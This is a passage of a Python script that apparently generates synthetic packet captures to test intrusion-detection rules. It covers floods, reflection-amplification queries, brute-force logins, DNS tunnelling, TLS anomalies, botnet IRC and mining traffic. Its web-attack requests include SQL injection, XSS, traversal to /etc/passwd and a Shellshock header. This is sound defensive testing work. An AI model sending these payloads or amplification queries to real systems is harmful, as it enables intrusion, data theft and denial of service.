    """105 distinct outside sources each send one SYN to port 443 of a HOME_NET server within a second."""
    for i in range(105):
        src = "198.18.%d.%d" % (i // 200, 1 + i % 200)
        cap.add(IP(src=src, dst=WEB, id=1) / TCP(sport=20000 + i, dport=443, flags="S", seq=i), 5000)


@case("dos-udpflood")
def cap_dos_udpflood(cap):
    """One outside host sends 2100 UDP datagrams to port 9999 of a HOME_NET server within 4.2 seconds."""
    for i in range(2100):
        udp(cap, ATT, VICTIM, 30000, 9999, b"A" * 16, 2000)


@case("dos-icmpflood")
def cap_dos_icmpflood(cap):
    """One outside host sends 520 ICMP echo requests to a HOME_NET server within 5.2 seconds."""
    for i in range(520):
        cap.add(IP(src=ATT, dst=VICTIM, id=1) / ICMP(type=8, id=3, seq=i) / (b"\x00" * 56), 10000)


def dns_any_response(qid, name="example.org"):
    an = None
    for i in range(24):
        rr = DNSRR(rrname=name, type="TXT", ttl=3600, rdata="v=spf1 include:_spf%02d.%s ~all padding-padding-" % (i, name))
        an = rr if an is None else an / rr
    return DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=255), an=an, ancount=24)


NTP_MONLIST_REQ = bytes.fromhex("1700032a") + bytes(4)
NTP_MONLIST_RESP = bytes.fromhex("d700032a00060048") + b"".join(
    struct.pack(">IIIIIIBBH", 60 * i, 120 * i, 0, 1, 0xCB007100 + i, 0xC0000201, 0, 0, 0) + bytes(36)
    for i in range(6))
MEMCACHED_REQ = struct.pack(">HHHH", 1, 0, 1, 0) + b"stats\r\n"
MEMCACHED_RESP = struct.pack(">HHHH", 1, 0, 1, 0) + b"".join(
    b"STAT %s %d\r\n" % (k, 1000 + i) for i, k in enumerate(
        [b"pid", b"uptime", b"time", b"version", b"curr_connections", b"total_connections", b"cmd_get",
         b"cmd_set", b"get_hits", b"get_misses", b"bytes_read", b"bytes_written", b"limit_maxbytes", b"threads"]))
SSDP_MSEARCH = (b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\n"
                b"ST: ssdp:all\r\n\r\n")
SSDP_RESP = (b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nEXT:\r\nLOCATION: http://10.2.0.60:49152/desc.xml\r\n"
             b"SERVER: Linux/3.14 UPnP/1.0 IpBridge/1.26\r\nST: upnp:rootdevice\r\n"
             b"USN: uuid:2f402f80-da50-11e1-9b23-001788255acc::upnp:rootdevice\r\n\r\n")
CLDAP_REQ = bytes.fromhex("30250201016320040000a0"
                          "030101000201000201000101ff870b6f626a656374636c617373300000")
CLDAP_RESP = (bytes.fromhex("3082012c02010164820125040030820120308201" "1c0408") + b"netlogon" +
              bytes.fromhex("3182010e048201") + b"\x0a" + bytes(266))
CHARGEN_REQ = b"\x00"


def chargen_response():
    """Six chargen lines: 72 printable characters each, every line shifted by one."""
    cyc = bytes(range(32, 127))
    return b"".join((cyc[i:] + cyc[:i])[:72] + b"\r\n" for i in range(6))


def snmp_response(size=600):
    varbind = bytes.fromhex("300e06082b06010201010100") + b"\x04\x82" + struct.pack(">H", size) + b"x" * size
    vbl = b"\x30\x82" + struct.pack(">H", len(varbind)) + varbind
    pdu_inner = bytes.fromhex("020411223344020100020100") + vbl
    pdu = b"\xa2\x82" + struct.pack(">H", len(pdu_inner)) + pdu_inner
    msg_inner = bytes.fromhex("020101") + b"\x04\x06public" + pdu
    return b"\x30\x82" + struct.pack(">H", len(msg_inner)) + msg_inner


SNMP_GETBULK = bytes.fromhex("302602010104067075626c6963a5190204112233440201000201" "64300b300906052b060102010500")


@case("dos-open-reflectors")
def cap_dos_open_reflectors(cap):
    """Outside hosts query amplification services of HOME_NET servers and get answers: DNS ANY, NTP
    monlist, memcached over UDP and TCP, SSDP, CLDAP, chargen and SNMP with community 'public'."""
    udp(cap, ATT, DNSSRV, 43000, 53, DNS(id=7, rd=1, qd=DNSQR(qname="example.org", qtype=255)))
    udp(cap, DNSSRV, ATT, 53, 43000, dns_any_response(7))
    udp(cap, ATT, "10.2.0.123", 43001, 123, NTP_MONLIST_REQ)
    udp(cap, "10.2.0.123", ATT, 123, 43001, NTP_MONLIST_RESP)
    udp(cap, ATT, "10.2.0.112", 43002, 11211, MEMCACHED_REQ)
    udp(cap, "10.2.0.112", ATT, 11211, 43002, MEMCACHED_RESP)
    tcp_session(cap, ATT, "10.2.0.112", 43003, 11211, [("c", b"stats\r\n"), ("s", MEMCACHED_RESP[8:] + b"END\r\n")])
    udp(cap, ATT, "10.2.0.60", 43004, 1900, SSDP_MSEARCH)
    udp(cap, "10.2.0.60", ATT, 1900, 43004, SSDP_RESP)
    udp(cap, ATT, "10.2.0.61", 43005, 389, CLDAP_REQ)
    udp(cap, "10.2.0.61", ATT, 389, 43005, CLDAP_RESP)
    udp(cap, ATT, "10.2.0.62", 43006, 19, CHARGEN_REQ)
    udp(cap, "10.2.0.62", ATT, 19, 43006, chargen_response())
    udp(cap, ATT, "10.2.0.63", 43007, 161, bytes.fromhex("302902010104067075626c6963a01c0204112233440201000201"
                                                         "00300e300c06082b060102010105000500"))
    udp(cap, "10.2.0.63", ATT, 161, 43007, snmp_response(40))


def reflection(cap, sport, payload_fn, victim_port=80, n=12):
    for i in range(n):
        udp(cap, "198.51.100.%d" % (1 + i), VICTIM, sport, victim_port, payload_fn(i), 50000)


# One reflection attack per amplification service: twelve outside reflectors
# (198.51.100.1-12) answer a HOME_NET victim that never asked.
REFLECTIONS = [
    ("dns", 53, "DNS servers send large ANY answers", lambda i: dns_any_response(0x4000 + i)),
    ("ntp", 123, "NTP servers send monlist answers", lambda i: NTP_MONLIST_RESP),
    ("memcached", 11211, "memcached servers send stats answers (UDP)", lambda i: MEMCACHED_RESP),
    ("ssdp", 1900, "UPnP devices send SSDP answers", lambda i: SSDP_RESP),
    ("cldap", 389, "directory servers send CLDAP search results", lambda i: CLDAP_RESP),
    ("chargen", 19, "hosts send chargen answers", lambda i: chargen_response()),
    ("snmp", 161, "SNMP agents send 700-byte GetResponse answers", lambda i: snmp_response(600)),
]


def register_reflection(name, port, what, payload_fn):
    def make(cap):
        reflection(cap, port, payload_fn)
    make.__doc__ = "Twelve outside %s to one HOME_NET host that never asked." % what
    case("dos-reflection-" + name)(make)


for _r in REFLECTIONS:
    register_reflection(*_r)


@case("dos-normal-udp")
def cap_dos_normal_udp(cap):
    """Normal UDP services: a HOME_NET client's NTP exchange (mode 3/4), DNS lookups and an SSDP
    multicast search answered by two HOME_NET devices."""
    ntp_c = bytes.fromhex("e30006ec") + bytes(44)
    ntp_s = bytes.fromhex("240306e9") + bytes(44)
    udp(cap, WS, EXTSRV, 123, 123, ntp_c)
    udp(cap, EXTSRV, WS, 123, 123, ntp_s)
    udp(cap, WS, "239.255.255.250", 50100, 1900, SSDP_MSEARCH)
    udp(cap, "10.2.0.60", WS, 1900, 50100, SSDP_RESP)
    udp(cap, "10.2.0.64", WS, 1900, 50100, SSDP_RESP)
    q = DNS(id=55, rd=1, qd=DNSQR(qname="www.example.com", qtype="A"))
    udp(cap, WS, DNSSRV, 50101, 53, q)
    udp(cap, DNSSRV, WS, 53, 50101, DNS(id=55, qr=1, rd=1, ra=1, qd=DNSQR(qname="www.example.com", qtype="A"),
                                         an=DNSRR(rrname="www.example.com", type="A", ttl=60, rdata="198.51.100.80")))


# ---------------------------------------------------------- brute force cases

def syn_handshakes(cap, cli, srv, port, n, base_port, gap_s=2.0):
    for i in range(n):
        t = Tcp(cap, cli, srv, base_port + i, port).open()
        t.reset()
        cap.wait(gap_s)


@case("bf-ssh")
def cap_bf_ssh(cap):
    """An outside host opens 12 SSH connections to a HOME_NET server within 24 seconds."""
    syn_handshakes(cap, ATT, FILESRV, 22, 12, 44000)


@case("bf-ssh-few")
def cap_bf_ssh_few(cap):
    """A HOME_NET administrator logs in three times over SSH within a minute (under the threshold)."""
    for i in range(3):
        tcp_session(cap, WS, FILESRV, 44100 + i, 22, [
            ("s", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"), ("c", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")])
        cap.wait(15)


@case("bf-rdp")
def cap_bf_rdp(cap):
    """An outside host opens 11 connections to RDP port 3389 of a HOME_NET server within 22 seconds."""
    syn_handshakes(cap, ATT, FILESRV, 3389, 11, 44200)


@case("bf-telnet")
def cap_bf_telnet(cap):
    """An outside host opens 11 connections to Telnet port 23 of a HOME_NET device within 22 seconds."""
    syn_handshakes(cap, ATT, PLC, 23, 11, 44300)


@case("bf-ftp")
def cap_bf_ftp(cap):
    """An outside host opens 11 connections to FTP port 21 of a HOME_NET server within 22 seconds."""
    syn_handshakes(cap, ATT, FILESRV, 21, 11, 44400)


@case("bf-smb")
def cap_bf_smb(cap):
    """An outside host opens 21 connections to SMB port 445 of a HOME_NET server within 21 seconds."""
    syn_handshakes(cap, ATT, FILESRV, 445, 21, 44500, gap_s=1.0)


@case("bf-vnc")
def cap_bf_vnc(cap):
    """An outside host opens 11 connections to VNC port 5900 of a HOME_NET desktop within 22 seconds."""
    syn_handshakes(cap, ATT, WS, 5900, 11, 44600)


@case("bf-ftp-failures")
def cap_bf_ftp_failures(cap):
    """An outside host tries six passwords on a HOME_NET FTP server, one connection each; every login
    is refused with 530."""
    for i in range(6):
        tcp_session(cap, ATT, FILESRV, 44700 + i, 21, [
            ("s", b"220 ProFTPD Server ready.\r\n"), ("c", b"USER admin\r\n"),
            ("s", b"331 Password required for admin\r\n"), ("c", b"PASS guess%d\r\n" % i),
            ("s", b"530 Login incorrect.\r\n")])
        cap.wait(3)


@case("bf-telnet-failures")
def cap_bf_telnet_failures(cap):
    """An outside host tries six passwords on a HOME_NET Telnet device; each is answered 'Login incorrect'."""
    for i in range(6):
        tcp_session(cap, ATT, PLC, 44800 + i, 23, [
            ("s", b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"), ("c", b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27"),
            ("s", b"\xff\xfb\x03\xff\xfb\x01"), ("c", b"\xff\xfd\x03\xff\xfd\x01"),
            ("s", b"\r\nlogin: "), ("c", b"root\r\n"), ("s", b"Password: "), ("c", b"admin%d\r\n" % i),
            ("s", b"\r\nLogin incorrect\r\n")])
        cap.wait(3)


def smb2(command, status, body, mid, response=False):
    head = (b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 1, status, command, 1, 1 if response else 0, 0, mid, 0xFEFF,
                                     0, 0x1000000000001 if command == 1 else 0) + bytes(16))
    msg = head + body
    return struct.pack(">I", len(msg)) + msg


SMB2_NEGOTIATE_REQ = smb2(0, 0, bytes.fromhex("24000200010000007f0000000102030405060708090a0b0c0d0e0f10"
                                              "00000000000000000202100200"), 0)
SMB2_NEGOTIATE_RESP = smb2(0, 0, bytes.fromhex("4100010010020000") + bytes(16) + bytes.fromhex(
    "07000000000080000000800000008000") + bytes(16) + bytes.fromhex("80000000000000000000"), 0, response=True)
SMB2_SETUP_REQ = smb2(1, 0, bytes.fromhex("190000010100000000000000580010000000000000000000") + b"NTLMSSP\x00\x03" + bytes(7), 1)
SMB2_SETUP_FAIL = smb2(1, 0xC000006D, bytes.fromhex("0900000000000000"), 1, response=True)


@case("bf-smb-failures")
def cap_bf_smb_failures(cap):
    """An outside host tries six passwords on a HOME_NET SMB server (SMB2 session setup); each is answered
    STATUS_LOGON_FAILURE."""
    for i in range(6):
        tcp_session(cap, ATT, FILESRV, 44900 + i, 445, [
            ("c", SMB2_NEGOTIATE_REQ), ("s", SMB2_NEGOTIATE_RESP),
            ("c", SMB2_SETUP_REQ), ("s", SMB2_SETUP_FAIL)])
        cap.wait(3)


@case("bf-vnc-failures")
def cap_bf_vnc_failures(cap):
    """An outside host tries six passwords on a HOME_NET VNC server (RFB 3.8 VNC authentication); each
    ends with a failed SecurityResult."""
    for i in range(6):
        tcp_session(cap, ATT, WS, 45000 + i, 5900, [
            ("s", b"RFB 003.008\n"), ("c", b"RFB 003.008\n"), ("s", b"\x01\x02"), ("c", b"\x02"),
            ("s", bytes(range(16))), ("c", bytes(range(16, 32))),
            ("s", b"\x00\x00\x00\x01\x00\x00\x00\x15Authentication failed")])
        cap.wait(3)


@case("bf-vnc-nobanner")
def cap_bf_vnc_nobanner(cap):
    """Six connections from an outside host to port 5900 where the server answers only the 4 bytes
    00 00 00 01 without an RFB greeting (not VNC: the failure rule needs the banner flowbit)."""
    for i in range(6):
        tcp_session(cap, ATT, WS, 45100 + i, 5900, [("c", b"hello"), ("s", b"\x00\x00\x00\x01")])
        cap.wait(3)


# ----------------------------------------------------------------- DNS cases

def dns_query(qid, name, qtype="A"):
    return DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype))


def dns_exchange(cap, cli, srv, sport, qid, name, qtype="A", answer=None):
    udp(cap, cli, srv, sport, 53, dns_query(qid, name, qtype))
    an = answer if answer is not None else DNSRR(rrname=name, type="A", ttl=60, rdata="198.51.100.80")
    udp(cap, srv, cli, 53, sport, DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype), an=an))


def b32ish(i, n):
    """A deterministic label of n characters from [a-z0-9], as tunnels encode data."""
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    out, x = [], 2654435761 * (i + 1)
    for _ in range(n):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(alphabet[x % 36])
    return "".join(out)


@case("dns-long-labels")
def cap_dns_long_labels(cap):
    """A HOME_NET client sends 25 queries with 56-character labels under one domain within 25 seconds,
    from one source port (a DNS tunnel carrying data upstream)."""
    for i in range(25):
        name = "%s.%s.t.example.net" % (b32ish(i, 56), b32ish(i + 100, 20))
        dns_exchange(cap, WS, DNSSRV, 51000, 0x100 + i, name, "TXT",
                     DNSRR(rrname=name, type="TXT", ttl=0, rdata="ok%d" % i))
        cap.wait(1)


@case("dns-iodine-null")
def cap_dns_iodine_null(cap):
    """A HOME_NET client asks for NULL records three times (iodine's default query type)."""
    for i in range(3):
        dns_exchange(cap, WS, DNSSRV, 51100, 0x200 + i, "%s.pirate.example.net" % b32ish(i, 12), "NULL",
                     DNSRR(rrname="x.pirate.example.net", type="NULL", ttl=0, rdata=b"\x00vack"))


@case("dns-txt-burst")
def cap_dns_txt_burst(cap):
    """A HOME_NET client sends 55 TXT queries with short random labels within 28 seconds."""
    for i in range(55):
        name = "%s.c.example.net" % b32ish(i + 500, 10)
        dns_exchange(cap, WS, DNSSRV, 51200, 0x300 + i, name, "TXT",
                     DNSRR(rrname=name, type="TXT", ttl=0, rdata="d%d" % i))
        cap.wait(0.5)


@case("dns-normal")
def cap_dns_normal(cap):
    """A HOME_NET client resolves ordinary names (A, AAAA, MX, TXT for SPF), including a 41-character label."""
    for i, (name, qt) in enumerate([("www.example.com", "A"), ("www.example.com", "AAAA"), ("example.org", "MX"),
                                    ("example.org", "TXT"),
                                    ("static-content-delivery-network-edge-node.example.net", "A")]):
        dns_exchange(cap, WS, DNSSRV, 51300 + i, 0x400 + i, name, qt,
                     DNSRR(rrname=name, type="A", ttl=60, rdata="198.51.100.%d" % (20 + i)))


@case("dns-dga")
def cap_dns_dga(cap):
    """A HOME_NET client resolves a machine-generated looking name (consonant soup, as DGAs produce)."""
    dns_exchange(cap, WS, DNSSRV, 51400, 0x500, "xkqzvbnwtrplmfhgjd.com", "A")


@case("dns-large")
def cap_dns_large(cap):
    """A HOME_NET resolver answers a TXT query with a 900-byte UDP message."""
    name = "keys.example.org"
    an = None
    for i in range(8):
        rr = DNSRR(rrname=name, type="TXT", ttl=300, rdata="k=%d;" % i + "A" * 100)
        an = rr if an is None else an / rr
    dns_exchange(cap, WS, DNSSRV, 51500, 0x600, name, "TXT", an)


@case("dns-invalid-chars")
def cap_dns_invalid_chars(cap):
    """A HOME_NET client asks for a name containing control characters (binary data in a label)."""
    raw = (struct.pack(">HHHHHH", 0x700, 0x0100, 1, 0, 0, 0) + b"\x08ab\x01\x02\x03cde\x07example\x03com\x00" +
           struct.pack(">HH", 1, 1))
    udp(cap, WS, DNSSRV, 51600, 53, raw)
    udp(cap, DNSSRV, WS, 53, 51600, struct.pack(">HHHHHH", 0x700, 0x8183, 1, 0, 0, 0) + raw[12:])


@case("dns-malformed")
def cap_dns_malformed(cap):
    """A HOME_NET client sends a DNS query with the reserved query type 0, as fuzzers and broken tunnels do."""
    q = struct.pack(">HHHHHH", 0x900, 0x0100, 1, 0, 0, 0) + b"\x03www\x07example\x03com\x00" + struct.pack(">HH", 0, 1)
    udp(cap, WS, DNSSRV, 51700, 53, q)


# ----------------------------------------------------------------- TLS cases

def tls_record(ctype, body, version=b"\x03\x03"):
    return bytes([ctype]) + version + struct.pack(">H", len(body)) + body


def handshake(msg_type, body):
    return bytes([msg_type]) + struct.pack(">I", len(body))[1:] + body


def tls_ext(etype, data):
    return struct.pack(">HH", etype, len(data)) + data


CIPHERS_MODERN = [0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035]


def client_hello(sni=None, version=0x0303, record_version=b"\x03\x01", ciphers=CIPHERS_MODERN, extensions=True,
                 groups=(0x001D, 0x0017, 0x0018), seed=1):
    exts = b""
    if extensions:
        if sni:
            n = sni.encode()
            exts += tls_ext(0x0000, struct.pack(">HBH", len(n) + 3, 0, len(n)) + n)
        exts += tls_ext(0x0017, b"")
        exts += tls_ext(0xFF01, b"\x00")
        exts += tls_ext(0x000A, struct.pack(">H", 2 * len(groups)) + b"".join(struct.pack(">H", g) for g in groups))
        exts += tls_ext(0x000B, b"\x01\x00")
        exts += tls_ext(0x000D, bytes.fromhex("000a040305030603080408050806"))
        exts += tls_ext(0x0010, bytes.fromhex("000c02683208687474702f312e31"))
    body = (struct.pack(">H", version) + bytes([seed]) * 32 + b"\x00" + struct.pack(">H", 2 * len(ciphers)) +
            b"".join(struct.pack(">H", c) for c in ciphers) + b"\x01\x00")
    if extensions:
        body += struct.pack(">H", len(exts)) + exts
    return tls_record(22, handshake(1, body), record_version)


def make_cert(subject_cn, issuer, not_before, not_after, serial, seed, subject_extra=()):
    """A DER certificate signed with a fixed Ed25519 key (Ed25519 signatures are deterministic)."""
    from cryptography import x509
    from cryptography.x509.oid import NameOID
    from cryptography.hazmat.primitives.asymmetric import ed25519
    from cryptography.hazmat.primitives import serialization

    def name(parts):
        oids = {"C": NameOID.COUNTRY_NAME, "O": NameOID.ORGANIZATION_NAME, "CN": NameOID.COMMON_NAME,
                "OU": NameOID.ORGANIZATIONAL_UNIT_NAME}
        return x509.Name([x509.NameAttribute(oids[k], v) for k, v in parts])

    key = ed25519.Ed25519PrivateKey.from_private_bytes(bytes([seed]) * 32)
    subject = name(list(subject_extra) + [("CN", subject_cn)])
    builder = (x509.CertificateBuilder().subject_name(subject).issuer_name(name(issuer) if issuer else subject)
               .public_key(key.public_key()).serial_number(serial)
               .not_valid_before(datetime.datetime(*not_before)).not_valid_after(datetime.datetime(*not_after))
               .add_extension(x509.SubjectAlternativeName([x509.DNSName(subject_cn)]), critical=False))
    return builder.sign(key, None).public_bytes(serialization.Encoding.DER)


CA_ISSUER = [("C", "US"), ("O", "Example Trust Services"), ("CN", "Example TLS CA R1")]


def server_flight(cert_der, version=0x0303, cipher=0xC02F, record_version=b"\x03\x03"):
    sh = (struct.pack(">H", version) + bytes([0x42]) * 32 + b"\x00" + struct.pack(">H", cipher) + b"\x00" +
          struct.pack(">H", 5) + tls_ext(0xFF01, b"\x00"))
    certs = struct.pack(">I", len(cert_der))[1:] + cert_der
    certmsg = struct.pack(">I", len(certs))[1:] + certs
    return (tls_record(22, handshake(2, sh), record_version) + tls_record(22, handshake(11, certmsg), record_version) +
            tls_record(22, handshake(14, b""), record_version))


def tls_session(cap, cli, srv, cport, sport, hello, flight):
    tcp_session(cap, cli, srv, cport, sport, [
        ("c", hello), ("s", flight),
        ("c", tls_record(22, handshake(16, b"\x20" + bytes(32))) + tls_record(20, b"\x01") + tls_record(22, bytes(40))),
        ("s", tls_record(20, b"\x01") + tls_record(22, bytes(40))),
        ("c", tls_record(23, bytes(120))), ("s", tls_record(23, bytes(400)))])


VALID = ((2026, 1, 1), (2026, 12, 31))


@case("tls-normal")
def cap_tls_normal(cap):
    """A HOME_NET client opens TLS 1.2 with SNI to an outside server whose certificate a CA issued and
    is valid at the time of the capture."""
    cert = make_cert("www.example.com", CA_ISSUER, *VALID, serial=1001, seed=11)
    tls_session(cap, WS, EXTSRV, 45100, 443, client_hello("www.example.com"), server_flight(cert))


@case("tls-selfsigned-out")
def cap_tls_selfsigned_out(cap):
    """A HOME_NET client opens TLS to an outside server that presents a self-signed certificate."""
    cert = make_cert("update.example.net", None, *VALID, serial=1002, seed=12, subject_extra=[("O", "Acme")])
    tls_session(cap, WS, EXTSRV, 45101, 443, client_hello("update.example.net"), server_flight(cert))


@case("tls-selfsigned-in")
def cap_tls_selfsigned_in(cap):
    """An outside client opens TLS to a HOME_NET server that presents a self-signed certificate."""
    cert = make_cert("intranet.example.com", None, *VALID, serial=1003, seed=13, subject_extra=[("O", "Acme")])
    tls_session(cap, ATT, WEB, 45102, 443, client_hello("intranet.example.com"), server_flight(cert))


@case("tls-expired")
def cap_tls_expired(cap):
    """A HOME_NET client opens TLS to an outside server whose CA-issued certificate expired in June 2025."""
    cert = make_cert("old.example.org", CA_ISSUER, (2025, 1, 1), (2025, 6, 1), serial=1004, seed=14)
    tls_session(cap, WS, EXTSRV, 45103, 443, client_hello("old.example.org"), server_flight(cert))


@case("tls-old-version")
def cap_tls_old_version(cap):
    """A HOME_NET client and an outside server negotiate TLS 1.0."""
    cert = make_cert("legacy.example.org", CA_ISSUER, *VALID, serial=1005, seed=15)
    tls_session(cap, WS, EXTSRV, 45104, 443, client_hello("legacy.example.org", version=0x0301),
                server_flight(cert, version=0x0301, cipher=0xC013, record_version=b"\x03\x01"))


@case("tls-sslv3")
def cap_tls_sslv3(cap):
    """A HOME_NET client offers SSLv3 (record and hello version 3.0, no extensions) to an outside server."""
    tcp_session(cap, WS, EXTSRV, 45105, 443, [
        ("c", client_hello(version=0x0300, record_version=b"\x03\x00", ciphers=[0x000A, 0x0005, 0x0004],
                           extensions=False)),
        ("s", tls_record(21, b"\x02\x28", b"\x03\x00"))])


@case("tls-no-sni")
def cap_tls_no_sni(cap):
    """A HOME_NET client opens TLS 1.2 to an outside server without the SNI extension."""
    cert = make_cert("198.51.100.200", CA_ISSUER, *VALID, serial=1006, seed=16)
    tls_session(cap, WS, EXTSRV, 45106, 443, client_hello(None), server_flight(cert))


@case("tls-ja3")
def cap_tls_ja3(cap):
    """A HOME_NET client with an unusual TLS stack (few ciphers, no ALPN/groups order of browsers) talks to
    an outside server; the test adds its JA3 to a copy of the JA3 lists."""
    cert = make_cert("cdn.example.net", CA_ISSUER, *VALID, serial=1007, seed=17)
    tls_session(cap, WS, EXTSRV2, 45107, 443,
                client_hello("cdn.example.net", ciphers=[0x0035, 0x002F, 0x000A, 0xC014], groups=(0x0017,), seed=7),
                server_flight(cert, cipher=0x0035))


# ------------------------------------------------------------- malware cases

@case("mal-tor")
def cap_mal_tor(cap):
    """A HOME_NET client opens TLS the way Tor does: random www.<x>.com SNI, and a certificate whose
    subject and issuer are random www.<y>.net / www.<z>.com names."""
    cert = make_cert("www.q4cyamnc6mtokjurvdclt.net", [("CN", "www.t3i3ru6gyip7ts.com")], *VALID, serial=1008, seed=18)
    tls_session(cap, WS, "198.51.100.9", 45200, 9001, client_hello("www.jmts2id5ct7ctr.com"), server_flight(cert))


IRC_LOGIN = [("c", b"NICK bot4821\r\nUSER bot4821 0 * :bot4821\r\n"),
             ("s", b":irc.example.net 001 bot4821 :Welcome to the IRC network bot4821\r\n"),
             ("c", b"JOIN #control\r\n"), ("s", b":bot4821!bot4821@10.3.0.15 JOIN :#control\r\n")]


@case("mal-irc")
def cap_mal_irc(cap):
    """A HOME_NET host joins an IRC channel on port 6667 and chats."""
    tcp_session(cap, WS, EXTSRV, 45300, 6667, IRC_LOGIN + [
        ("s", b":alice!alice@198.51.100.7 PRIVMSG #control :hello everyone\r\n")])


@case("mal-irc-bot")
def cap_mal_irc_bot(cap):
    """A HOME_NET host joins an IRC channel on port 8000 and receives '!ddos' from the channel operator."""
    tcp_session(cap, WS, EXTSRV, 45301, 8000, IRC_LOGIN + [
        ("s", b":master!master@198.51.100.7 PRIVMSG #control :!ddos 198.51.100.50 80 600\r\n")])


@case("mal-mining")
def cap_mal_mining(cap):
    """A HOME_NET host resolves a mining pool, logs in with Stratum (mining.subscribe/authorize) on
    port 3333, and another process logs in XMRig-style on port 5555."""
    dns_exchange(cap, WS, DNSSRV, 45400, 0x800, "pool.supportxmr.com", "A")
    tcp_session(cap, WS, EXTSRV, 45401, 3333, [
        ("c", b'{"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.10.0"]}\n'),
        ("s", b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\n'),
        ("c", b'{"params": ["wallet1.worker1", "x"], "id": 2, "method": "mining.authorize"}\n'),
        ("s", b'{"id":2,"result":true,"error":null}\n')])
    tcp_session(cap, WS2, EXTSRV2, 45402, 5555, [
        ("c", b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBL'
              b'WsnT5ydnVHUMbbj","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",'
              b'"algo":["rx/0"]}}\n'),
        ("s", b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"blob":"0e0e","job_id":"1",'
              b'"target":"b88d0600"},"status":"OK"}}\n')])


PE_BODY = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43) + b"\x80\x00\x00\x00" +
           b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$" +
           bytes(7) + b"PE\x00\x00\x4c\x01\x03\x00" + bytes(200))
ELF_BODY = b"\x7fELF\x01\x01\x01\x00" + bytes(8) + b"\x02\x00\x28\x00\x01\x00\x00\x00" + bytes(200)


def http_get(path, host, ua=b"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", extra=b""):
    return b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: " + ua + b"\r\nAccept: */*\r\n" + extra + b"\r\n"


def http_resp(body, ctype=b"text/html", status=b"200 OK"):
    return (b"HTTP/1.1 " + status + b"\r\nServer: nginx\r\nContent-Type: " + ctype + b"\r\nContent-Length: " +
            str(len(body)).encode() + b"\r\n\r\n" + body)


@case("mal-exe-download")
def cap_mal_exe_download(cap):
    """A HOME_NET host downloads /invoice.exe (a PE file, application/octet-stream) from a bare IP address."""
    tcp_session(cap, WS, "203.0.113.99", 45500, 80, [
        ("c", http_get(b"/invoice.exe", b"203.0.113.99")),
        ("s", http_resp(PE_BODY, b"application/octet-stream"))])


@case("mal-exe-disguised")
def cap_mal_exe_disguised(cap):
    """A HOME_NET host downloads /logo.png from a named host; the body is a Windows executable served as
    image/png."""
    tcp_session(cap, WS, EXTSRV, 45501, 80, [
        ("c", http_get(b"/img/logo.png", b"cdn.example.net")),
        ("s", http_resp(PE_BODY, b"image/png"))])


@case("mal-elf-download")
def cap_mal_elf_download(cap):
    """A HOME_NET device fetches a Linux ELF binary over HTTP with wget (a dropper pulling its payload)."""
    tcp_session(cap, PLC, EXTSRV, 45502, 80, [
        ("c", http_get(b"/bins/arm7", b"files.example.net", ua=b"Wget/1.21")),
        ("s", http_resp(ELF_BODY, b"application/octet-stream"))])


@case("mal-web-attacks")
def cap_mal_web_attacks(cap):
    """An outside host attacks a HOME_NET web server: SQL UNION SELECT, a script tag, a directory
    traversal, a probe for /.env and a Shellshock header, one request per connection."""
    reqs = [http_get(b"/item.php?id=1%27+union+select+user%2C+password+from+users--+-", b"shop.example.com"),
            http_get(b"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", b"shop.example.com"),
            http_get(b"/download?file=../../../../etc/passwd", b"shop.example.com"),
            http_get(b"/.env", b"shop.example.com"),
            http_get(b"/cgi-bin/status", b"shop.example.com", ua=b"() { :; }; /bin/bash -c 'id'")]
    for i, r in enumerate(reqs):
        tcp_session(cap, ATT, WEB, 45600 + i, 80, [("c", r), ("s", http_resp(b"<html>no</html>", status=b"404 Not Found"))])


@case("mal-web-attacks-out")
def cap_mal_web_attacks_out(cap):
    """A HOME_NET workstation attacks an outside web server: SQL UNION SELECT and a script tag in the
    URL, which nDPI's URL checks flag (a compromised host, or an insider)."""
    reqs = [http_get(b"/item.php?id=1%27+union+select+user%2C+password+from+users--+-", b"shop.example.net"),
            http_get(b"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", b"shop.example.net")]
    for i, r in enumerate(reqs):
        tcp_session(cap, WS, EXTSRV, 45650 + i, 80, [("c", r), ("s", http_resp(b"<html>no</html>", status=b"404 Not Found"))])


@case("mal-web-normal")
def cap_mal_web_normal(cap):
    """Ordinary browsing of a HOME_NET web server: a page, a search with 'union' and 'select' as words
    apart, a relative link with one '../'."""
    reqs = [http_get(b"/index.html", b"www.example.com"),
            http_get(b"/search?q=trade+union+history&sort=select", b"www.example.com"),
            http_get(b"/docs/../img/a.png", b"www.example.com")]
    for i, r in enumerate(reqs):
        tcp_session(cap, WS, WEB, 45700 + i, 80, [("c", r), ("s", http_resp(b"<html>ok</html>"))])


@case("mal-log4shell")
def cap_mal_log4shell(cap):
